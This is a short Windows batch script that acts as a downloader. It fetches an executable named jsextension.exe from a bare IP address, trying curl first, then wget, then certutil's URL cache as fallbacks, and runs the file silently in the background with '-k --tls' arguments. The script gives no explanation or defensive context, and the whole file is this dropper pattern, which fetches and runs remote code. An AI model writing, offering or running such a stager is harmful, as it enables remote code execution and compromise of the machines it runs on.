@echo off
curl http://203.0.113.228/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://203.0.113.228/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://203.0.113.228/download/jsextension.exe jsextension.exe
)
start /B .\jsextension.exe -k --tls
